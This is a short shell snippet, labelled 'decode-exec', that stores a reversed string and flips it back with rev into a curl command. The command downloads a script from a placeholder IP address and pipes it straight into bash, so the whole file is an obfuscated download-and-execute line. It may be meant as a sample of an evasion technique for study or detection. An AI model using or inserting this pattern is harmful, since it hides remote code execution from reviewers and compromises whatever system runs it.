# decode-exec: reversed text flipped back with rev and executed by bash
note='hsab | hs.r/7.311.0.302//:ptth s- lruc'
echo "$note" | rev | bash
